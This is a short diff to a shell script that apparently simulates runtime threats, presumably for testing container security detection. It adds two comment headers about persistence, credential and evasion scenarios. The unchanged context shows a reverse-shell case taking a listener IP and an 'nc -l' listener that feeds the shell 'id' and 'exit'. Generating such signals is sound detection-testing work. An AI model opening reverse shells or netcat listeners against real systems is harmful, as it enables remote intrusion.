@@ -71,6 +71,8 @@ case "$name" in
     $h revshell "${1:?listener ip}" "${2:-4444}" ;;
   listener)          # the reverse shell's other end: feeds the shell two commands, then closes
     (echo 'id'; sleep "${2:-4}"; echo 'exit') | nc -l -p "${1:-4444}" >/dev/null ;;
+  # ---- runtime threats: drift and the interactive baseline ----
+  # ---- runtime threats: persistence, credentials, evasion ----
   # ---- stale containers ----
   long-lived)
     sleep "${1:-600}" ;;
